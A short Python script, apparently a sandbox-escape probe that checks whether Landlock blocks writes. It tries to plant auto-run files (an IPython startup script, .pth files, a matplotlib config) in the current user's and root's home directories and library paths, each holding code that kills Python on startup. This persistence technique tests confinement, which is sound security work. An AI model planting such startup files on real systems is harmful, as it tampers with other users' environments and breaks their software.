"""Plants files that Python, IPython or matplotlib run when they next start.

stopped by: Landlock: nothing but its own folder may be written, and that is removed
prize: found a plant
again: yes
"""
# %%
import os, pwd

homes = {os.path.expanduser("~"), "/root", pwd.getpwuid(0).pw_dir, BASE + "/zygote", LIBRARIES}
for home in homes:
    for path in (".ipython/profile_default/startup/mallory.py", "mallory.pth",
                 ".config/matplotlib/mallory", ".local/lib/python3/site-packages/mallory.pth"):
        if os.path.exists(os.path.join(home, path)):
            print("found", "a plant")
        try:
            os.makedirs(os.path.dirname(os.path.join(home, path)), exist_ok=True)
            open(os.path.join(home, path), "w").write("import os; os._exit(0)")
        except OSError as error:
            print(error)
